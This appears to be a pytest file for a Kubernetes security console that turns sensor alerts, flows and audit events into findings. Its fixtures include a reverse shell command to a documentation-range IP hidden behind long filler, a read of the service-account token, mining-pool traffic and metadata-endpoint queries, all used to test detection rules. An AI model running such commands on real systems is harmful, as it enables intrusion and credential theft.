"""What sensors tell becomes findings: alerts by the names of their rules, programs and flows by our own."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest

from console.model.envelopes.reading import read_record
from console.model.runtime import Sensed
from console.model.severity import Severity
from console.rules.compiling import RuleSet
from console.rules.detector import Detector
from console.rules.loading import load_rule
from console.rules.offline import detect, shipped_rules
from console.rules.stories import Storyteller
from console.rules.translating import load_meanings
from tests.console.model.envelopes.test_falco import SHELL
from tests.console.model.envelopes.test_tetragon import PROCESS, caught

NAMES = Path(__file__).parent / "data" / "falco-rules.txt"


def told(*records: dict[str, Any] | bytes) -> list[Sensed]:
    lines = [one if isinstance(one, bytes) else json.dumps(one).encode() for one in records]
    return [one for text in lines for one in read_record(text)]  # type: ignore[misc]


def test_every_rule_that_falco_ships_has_a_meaning() -> None:
    known = {one.rule for one in load_meanings().falco}
    assert set(NAMES.read_text().splitlines()) == known
    assert len(known) == 141


def test_a_known_alert_means_an_entry_of_the_catalogue_and_its_pod() -> None:
    (one,) = Detector(RuleSet(()), "falco").sense(told(SHELL), [b"{}"])
    assert (one.rule, one.title) == ("FALCO-TERMINAL-SHELL-IN-CONTAINER", "Terminal shell in container")
    assert (one.catalogue, one.attack, one.tactic) == (("D95",), ("T1059.004",), "execution")
    assert one.severity is Severity.MEDIUM, "Falco says notice; a shell in a pod is more than that"
    assert (one.target.kind, one.target.namespace, one.target.name) == ("Pod", "shop", "web-1")
    assert (one.who.user, one.who.pod, one.source) == ("", "shop/web-1", "falco")


def test_an_unknown_rule_passes_with_its_own_severity_and_tags() -> None:
    own = {
        **SHELL,
        "rule": "Ours: <odd> name",
        "priority": "Critical",
        "tags": ["mitre_credential_access", "T1528", "x"],
    }
    (one,) = Detector(RuleSet(())).sense(told(own))
    assert (one.rule, one.severity) == ("FALCO-OURS-ODD-NAME", Severity.CRITICAL)
    assert (one.catalogue, one.attack, one.tactic) == ((), ("T1528",), "credential-access")


def test_a_higher_priority_of_the_cluster_counts() -> None:
    (one,) = Detector(RuleSet(())).sense(told({**SHELL, "priority": "Emergency"}))
    assert one.severity is Severity.CRITICAL


@pytest.mark.parametrize(
    ("record", "rule", "entry"),
    [
        (caught("security_file_permission", {"file_arg": {"path": "/run/secrets/kubernetes.io/serviceaccount/token"}}),
         "TETRAGON-WATCH", "D75"),
        (caught("__x64_sys_setns", {"int_arg": 5}, policy_name="no-setns"), "TETRAGON-NO-SETNS", "D53"),
        (caught("do_init_module", {"module_arg": {"name": "r"}}, policy_name=""), "TETRAGON-DO-INIT-MODULE", "D53"),
        (caught("sys_write", {"int_arg": 5}, policy_name="Terminal shell in container"),
         "TETRAGON-TERMINAL-SHELL-IN-CONTAINER", "D95"),
        (caught("sys_write", {"int_arg": 5}), "TETRAGON-WATCH", ""),
        (caught("security_file_permission", {"file_arg": {"path": "/etc/pki/tls/cert.pem"}}), "TETRAGON-WATCH", ""),
        (caught("security_file_permission", {"file_arg": {"path": "/var/log/app.log"}}), "TETRAGON-WATCH", ""),
        (caught("security_inode_unlink", {"file_arg": {"path": "/var/log/auth.log"}}), "TETRAGON-WATCH", "D65"),
    ],
    ids=["by its argument", "by its function", "no policy's name", "by its policy", "unknown",
         "an authority", "a log", "a log removed"],
)  # fmt: skip
def test_what_a_tetragon_policy_caught_is_understood_where_it_can_be(record: bytes, rule: str, entry: str) -> None:
    (one,) = Detector(RuleSet(())).sense(told(record))
    assert (one.rule, one.catalogue) == (rule, (entry,) if entry else ())


def test_an_alert_told_by_two_sources_is_one_finding_that_names_both() -> None:
    detector = Detector(RuleSet(()))
    detector.sense(told(SHELL), source="falco")
    detector.sense(told({**SHELL, "hostname": None, "output": "A shell was spawned"}), source="alertmanager")
    detector.sense(told(SHELL), source="falco")
    (one,) = detector.findings()
    assert (one.count, one.told_by) == (1, ("falco", "alertmanager"))

    detector.sense(told({**SHELL, "time": "2026-11-23T07:05:00Z"}), source="falco")
    assert [one.count for one in detector.findings()] == [2]


def test_a_scan_counts_the_ports_of_each_host_apart() -> None:
    def flow(host: str, port: int) -> dict[str, Any]:
        return {"flow": {
            "time": f"2026-11-23T07:00:{port % 60:02}Z", "verdict": "FORWARDED", "traffic_direction": "EGRESS",
            "IP": {"source": "10.0.1.5", "destination": host}, "l4": {"TCP": {"destination_port": port}},
            "source": {"namespace": "shop", "pod_name": "web-1"}, "destination": {},
        }}  # fmt: skip

    def found(*flows: dict[str, Any]) -> set[str]:
        detector = Detector(shipped_rules())
        detector.sense(told(*flows))
        return {one.rule for one in detector.findings()}

    assert "FLOW-PORT-SCAN" in found(*(flow("10.0.0.9", port) for port in range(1, 31)))
    assert "FLOW-PORT-SCAN" not in found(*(flow(f"10.0.0.{port}", port) for port in range(1, 31)))
    assert "FLOW-PORT-SCAN" not in found(*(flow("10.0.0.9", 80) for _ in range(60)))


def test_two_pods_that_do_the_same_are_two_findings_and_no_company() -> None:
    """Sensors name no user. As one finding, an attacker's pod would hide behind an agent's everyday question."""

    def asked(pod: str, second: int) -> dict[str, Any]:
        return {"flow": {
            "time": f"2026-11-23T07:00:{second:02}Z", "verdict": "FORWARDED", "traffic_direction": "EGRESS",
            "IP": {"destination": "169.254.169.254"}, "l4": {"TCP": {"destination_port": 80}},
            "source": {"namespace": "shop", "pod_name": pod}, "destination": {},
        }}  # fmt: skip

    detector, teller = Detector(shipped_rules()), Storyteller()
    detector.sense(told(asked("agent-1", 1), asked("web-1", 2), asked("web-1", 3), asked("agent-1", 4)))
    found = [one for one in detector.findings() if one.rule == "FLOW-METADATA"]
    assert sorted((one.who.pod, one.count) for one in found) == [("shop/agent-1", 2), ("shop/web-1", 2)]
    assert len({one.id for one in found}) == 2
    teller.feed(found)
    assert len(set(map(id, teller._of.values()))) == 2


def test_a_rule_for_a_source_that_nobody_reads_is_a_fault(tmp_path: Path) -> None:
    text = "title: t\nid: OWN-1\nlevel: low\nlogsource: {product: windows, category: process_creation}\n"
    path = tmp_path / "own.yml"
    path.write_text(f"{text}detection: {{a: {{Image: x}}, condition: a}}\n")
    with pytest.raises(Exception, match=r"own.yml:4: no source tells of this logsource; give product kubernetes"):
        load_rule(path)


def test_a_field_of_the_audit_trail_in_a_rule_over_programs_is_a_fault(tmp_path: Path) -> None:
    path = tmp_path / "own.yml"
    head = "title: t\nid: OWN-1\nlevel: low\nlogsource: {product: linux, category: process_creation}\n"
    path.write_text(f"{head}detection: {{a: {{verb: get}}, condition: a}}\n")
    assert RuleSet([load_rule(path)]).faults == ["own.yml:5: unknown field 'verb'; rule OWN-1 is not used"]


def test_the_audit_trail_and_sensors_tell_one_story(tmp_path: Path) -> None:
    """A shell into a pod in the audit trail, what was done inside by Tetragon, where it led by Hubble."""
    shell = {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "a1",
        "stage": "ResponseStarted",
        "requestURI": "/api/v1/namespaces/shop/pods/web-1/exec?command=sh&stdin=true", "verb": "get",
        "user": {"username": "mallory", "groups": ["system:authenticated"]}, "sourceIPs": ["10.9.9.9"],
        "userAgent": "kubectl/v1.33.1", "responseStatus": {"code": 101},
        "objectRef": {"resource": "pods", "namespace": "shop", "name": "web-1", "subresource": "exec"},
        "requestReceivedTimestamp": "2026-11-23T07:00:00.000000Z", "stageTimestamp": "2026-11-23T07:00:00.000000Z",
    }  # fmt: skip
    cat = {**PROCESS, "binary": "/bin/cat", "arguments": "/var/run/secrets/kubernetes.io/serviceaccount/token"}
    read = {"process_exec": {"process": cat, "parent": {}}, "node_name": "n", "time": "2026-11-23T07:00:30Z"}
    mine = {
        "flow": {
            "time": "2026-11-23T07:01:00Z", "verdict": "FORWARDED", "traffic_direction": "EGRESS",
            "IP": {"destination": "203.0.113.9"}, "l4": {"TCP": {"destination_port": 3333}},
            "source": {"namespace": "shop", "pod_name": "web-1"}, "destination": {"labels": ["reserved:world"]},
            "destination_names": ["pool.supportxmr.com"],
        }
    }  # fmt: skip
    files = []
    for name, record in (("audit", shell), ("tetragon", read), ("hubble", mine), ("falco", SHELL)):
        files.append(tmp_path / f"{name}.log")
        files[-1].write_text(json.dumps(record))

    out = io.StringIO()
    assert detect([str(file) for file in files], min_severity="low", out=out) == 10
    found = [json.loads(line) for line in out.getvalue().splitlines()]
    by_rule = {one["rule"]: one for one in found}
    wanted = {"K8S-EXEC-POD", "RUN-TOKEN", "FLOW-MINER", "FALCO-TERMINAL-SHELL-IN-CONTAINER"}
    assert wanted <= set(by_rule)
    assert len({by_rule[rule]["story"] for rule in wanted} - {""}) == 1
    assert by_rule["FLOW-MINER"]["severity"] == "high"
    assert by_rule["RUN-TOKEN"]["severity"] == "high", "its rule says medium"
    assert by_rule["FLOW-MINER"]["target"]["name"] == "TCP 203.0.113.9:3333 pool.supportxmr.com"


def test_a_long_filling_pushes_no_command_out_of_sight() -> None:
    process = {
        **PROCESS,
        "binary": "/bin/sh",
        "arguments": f"-c ': {'x' * 20_000}; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
    }
    detector = Detector(shipped_rules())
    detector.sense(told({"process_exec": {"process": process}, "node_name": "n", "time": "2026-11-23T07:00:00Z"}))
    assert "RUN-REVERSE-SHELL" in {one.rule for one in detector.findings()}
